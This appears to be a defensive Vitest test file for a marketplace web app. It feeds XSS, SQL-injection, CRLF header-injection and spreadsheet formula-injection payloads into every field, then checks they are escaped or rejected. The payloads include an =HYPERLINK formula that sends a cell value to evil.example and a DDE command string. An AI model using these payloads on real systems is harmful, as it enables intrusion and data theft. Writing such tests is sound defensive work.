import { beforeAll, describe, expect, it } from 'vitest'
import { commandLine } from '../../src/accounts/actor.ts'
import { exportFile } from '../../src/imports/actions.ts'
import { readTable } from '../../src/imports/read/table.ts'
import type { ImportKind } from '../../src/platform/database/tables.ts'
import type { Description } from './documented.ts'
import { type Answer, type Client, type Market, openMarket } from './market.ts'
import { type Endpoint, endpointsOf, fitted, sampleOf } from './samples.ts'

const html = `"'><img src=x onerror=alert(1)><script>alert(2)</script></title></textarea><svg/onload=alert(3)>{{7*7}}\${7*7}`
const sql = [
  "' or '1'='1",
  "'; drop table demand; --",
  "x') union select secret_hash from token --",
  '" or ""="',
  '1; select pg_sleep(5)--',
  "%' and 1=(select count(*) from account) and '%'='",
  "\\'; delete from journal; --",
]
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example?"&A1)',
  "=cmd|'/c calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

let market: Market
let description: Description
beforeAll(async () => {
  market = await openMarket()
  description = JSON.parse((await market.visitor.get('/openapi.json')).text)
})

const prefixes: Record<string, string> = {}
/** One of each kind, in which every text is the attack. Gives the paths of what was made. */
async function plant(attack: string): Promise<string[]> {
  const made: string[] = []
  const order = ['/api/parks', '/api/enterprises', '/api/institutions', '/api/brokers', '/api/experts', '/api/offerings', '/api/demands']
  const isMaking = ({ method, path, body }: Endpoint) => method === 'POST' && !path.includes('{') && body?.type === 'application/json'
  const posts = endpointsOf(description).filter(isMaking)
  expect(posts.map(({ path }) => path)).toEqual(expect.arrayContaining(order))
  for (const path of [...order, ...posts.map((each) => each.path).filter((each) => !order.includes(each))]) {
    const { body } = posts.find((each) => each.path === path)!
    const filling = {
      isFull: true,
      text: (schema: { maxLength?: number }) => fitted(attack, schema),
      id: (prefix: string) => prefixes[prefix],
    }
    const draft = sampleOf(description, body!.schema, filling) as Record<string, unknown>
    const answer = await posted(path, draft)
    expect(answer.status, `${path}: ${answer.text.slice(0, 300)}`).toBeLessThan(500)
    const location = answer.header('location')
    if (location === null) continue
    made.push(location)
    prefixes[location.split('/').at(-1)!.slice(0, 3)] = location.split('/').at(-1)!
  }
  expect(made.length).toBeGreaterThanOrEqual(order.length)
  return made
}

/** Whatever a rule of the field refuses, such as a code that is none, is left out the next time. */
async function posted(path: string, draft: Record<string, unknown>): Promise<Answer> {
  let answer = await market.operator.post(path, draft)
  for (let times = 0; times < 4 && answer.status === 422; times++) {
    for (const { pointer } of JSON.parse(answer.text).errors as { pointer: string }[]) delete draft[pointer.split('/')[1]!]
    answer = await market.operator.post(path, draft)
  }
  return answer
}

describe('HTML in every text', () => {
  it('is shown as it was written, and runs nothing', async () => {
    const made = await plant(html)
    const { id } = await publishedDemand(market, html)
    await market.settle()
    const pages = [
      ...made.map((path) => path.replace('/api', '')),
      `/demands/${id}`,
      `/demands/${id}/matches?kind=expert`,
      ...['', 'demands', 'offerings', 'experts', 'institutions', 'enterprises'].map((path) => `/${path}`),
      ...['search', 'demands', 'demands/new'].map((path) => `/${path}?q=${encodeURIComponent(html)}&title=${encodeURIComponent(html)}`),
      `/sign-in?back=${encodeURIComponent(`/${html}`)}`,
      `/nowhere/${encodeURIComponent(html)}?x=${encodeURIComponent(html)}`,
    ]
    let shown = 0
    for (const path of pages) {
      for (const client of [market.operator, market.visitor]) {
        const { status, text } = await client.get(path, { accept: 'text/html' })
        expect(status, path).toBeLessThan(500)
        // The frame of every page holds one script beside a listing's one block of data, which is not run, and no image but by its style.
        expect(text.match(/<script(?! type="application\/ld\+json">)/g)?.length ?? 0, path).toBe(1)
        expect(text.match(/<script type="application\/ld\+json">/g)?.length ?? 0, path).toBeLessThan(2)
        // What stands in the quotation marks of an attribute stays there: they are written as &quot;.
        expect(text.replaceAll(/"[^"]*"/g, '""'), path).not.toMatch(/<img|<svg\/|<[^>]*\son\w+=|<\/title>[^<]*<\/textarea>/)
        if (text.includes('&lt;img src=x onerror=alert(1)&gt;')) shown++
      }
    }
    expect(shown).toBeGreaterThan(10)
  })

  it('is no address that a link leads to', async () => {
    const expert = await market.expert({ name: '沈砚秋' })
    for (const link of [
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      ' javascript:alert(1)',
      'vbscript:x',
      '//evil.example',
      'http:x"onclick=alert(1)',
    ]) {
      const answer = await market.operator.post(`/api/experts/${expert.id}/evidence`, { kind: 'paper', title: '箱形梁焊接旁弯', link })
      expect([link, answer.status]).toEqual([link, 422])
    }
  })
})

describe('SQL in every text, parameter and path', () => {
  it('finds nothing that was not asked for, and changes nothing', async () => {
    const { database } = market.ports
    const tables = async () => (await database.query.introspection.getTables()).length
    const [before, accounts] = [await tables(), await count('journal')]
    async function count(table: 'journal' | 'token'): Promise<number> {
      const { n } = await database.query
        .selectFrom(table)
        .select(({ fn }) => fn.countAll<number>().as('n'))
        .executeTakeFirstOrThrow()
      return Number(n)
    }
    const hashes = (await database.query.selectFrom('token').select('secret_hash').execute()).map(({ secret_hash }) => secret_hash)
    for (const attack of sql) {
      const written = encodeURIComponent(attack)
      for (const { method, path, query } of endpointsOf(description)) {
        const asked = path.replaceAll(/\{\w+\}/g, written)
        const queries = method === 'GET' ? ['', ...query.map((name) => `?${name}=${written}`)] : ['']
        for (const each of asked === path && queries.length === 1 ? [] : queries) {
          const started = performance.now()
          const answer = await market.visitor.ask(method, asked + each, {
            ...(method !== 'GET' && { body: {} }),
            headers: { 'if-match': `"${attack}"` },
          })
          expect(answer.status, `${method} ${asked}${each}: ${answer.text}`).toBeLessThan(500)
          expect(performance.now() - started, asked + each).toBeLessThan(3_000)
          for (const hash of hashes) expect(answer.text).not.toContain(hash)
        }
      }
    }
    expect([await tables(), await count('journal')]).toEqual([before, accounts])
    for (const attack of sql) {
      for (const path of await plant(attack))
        expect((await market.operator.get(path)).text).toContain(JSON.stringify(fitted(attack, {}).trim()).slice(1, 12))
    }
    expect(await tables()).toBe(before)
  })
})

describe('a line break in what goes into a header', () => {
  it.each(['\r\nset-cookie: stolen=1', '\nset-cookie: stolen=1', '%0d%0aset-cookie:%20stolen=1', '\u560d\u560aset-cookie: stolen=1'])(
    'makes no header of its own (%j)',
    async (attack) => {
      const written = encodeURIComponent(attack)
      const headers: Record<string, string> = /[\r\n\u0100-\uffff]/.test(attack)
        ? {}
        : { 'x-request-id': attack, 'idempotency-key': attack }
      for (const path of [
        `/language?to=en${written}&back=/${written}`,
        `/sign-in?back=/${written}`,
        `/api/demands/${written}`,
        `/account?back=${written}`,
      ]) {
        const answer = await market.app.request(path, { headers })
        expect(answer.headers.get('set-cookie') ?? '', path).not.toMatch(/(^|, )stolen/)
        expect(answer.headers.get('x-request-id')).not.toContain('stolen')
        expect(answer.headers.get('location') ?? '').not.toMatch(/[\r\n]/)
      }
    },
  )
})

describe('a formula in every text of an export', () => {
  it.each(['demand', 'offering', 'enterprise', 'park', 'institution', 'expert', 'broker'] as ImportKind[])(
    'of kind %s is text for every spreadsheet',
    async (kind) => {
      for (const attack of formulas) await plant(attack)
      let text = ''
      for await (const part of exportFile(market.ports, commandLine, { kind, format: 'csv' })) text += part
      const cells = cellsOf(text.slice(1))
      expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([])
      expect(cells.filter((cell) => /^'[=+\-@\t\r＝＋－＠]/.test(cell)).length).toBeGreaterThan(3)
      // Read again it is what was written.
      const { rows } = await readTable(new TextEncoder().encode(text), `${kind}.csv`)
      const values = rows.flatMap((row) => Object.values(row.values).map(String))
      for (const sign of '=+-@＝＋－＠') expect(values.some((value) => value.startsWith(sign))).toBe(true)
      expect(values.filter((value) => /^'[=+\-@\t\r＝＋－＠]/.test(value))).toEqual([])
    },
  )
})

/** RFC 4180, as a spreadsheet reads it. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/"((?:[^"]|"")*)"|([^,"\r\n]+)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

async function publishedDemand(own: Market, attack: string): Promise<{ id: string }> {
  const owner: Client = await own.enterprise({ name: fitted(attack, { maxLength: 100 }) })
  return own.publish(owner, { title: fitted(attack, { maxLength: 120 }), problem: attack, keywords: [fitted(attack, { maxLength: 60 })] })
}
